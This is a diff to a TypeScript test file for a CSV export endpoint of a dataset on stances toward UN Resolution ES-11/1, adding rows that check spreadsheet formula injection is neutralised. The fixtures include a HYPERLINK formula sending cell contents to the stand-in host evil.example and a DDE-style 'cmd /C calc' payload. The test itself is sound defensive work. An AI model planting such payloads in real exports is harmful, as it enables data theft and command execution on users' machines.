@@ -24,6 +24,11 @@ const ROWS = [
   'Zoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,"Two lines:\nwe are worried",Her blog,https://example.org/blog/zoe,2022-03',
   'Zoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,A second quote <with> & markup,Her blog,https://example.org/blog/zoe,2022-03',
   'russia,state,UN Resolution ES-11/1,2022-03-02,support,Russia voted against,UN voting record,https://example.org/vote/es-11-1,2022-03-02',
+  // Cells a spreadsheet would run as formulas: the export writes them as text, the import takes them back.
+  'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",UN voting record,https://example.org/vote/es-11-1,2022-03-02',
+  'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,-2+3 in favour,UN voting record,https://example.org/vote/es-11-1,2022-03-02',
+  'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,@SUM(A1:A9),UN voting record,https://example.org/vote/es-11-1,2022-03-02',
+  "russia,state,UN Resolution ES-11/1,2022-03-02,support,+cmd|' /C calc'!A0,UN voting record,https://example.org/vote/es-11-1,2022-03-02",
 ];
 let driver: Driver;
 let dir: string;
@@ -89,6 +94,10 @@ describe('GET /api/export', () => {
     csv1 = csv.text;
     expect(csv1.split('\r\n')[0]).toBe(HEADER);
     expect(csv1).toContain('"France voted in favour, saying ""aggression"" must stop"');
+    expect(csv1).toContain(',condemnation,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",');
+    expect(csv1).toContain(",condemnation,'-2+3 in favour,");
+    expect(csv1).toContain(",condemnation,'@SUM(A1:A9),");
+    expect(csv1).toContain(",support,'+cmd|' /C calc'!A0,");
     // Actors are named (their ids follow from their names); the seed's events have hand-made ids that do not
     // follow from their titles, so the CSV names them by id, which an import matches again.
     expect(csv1).toContain('\r\nTaliban government,government,russia-recognizes-taliban,2025-07-03,support,');
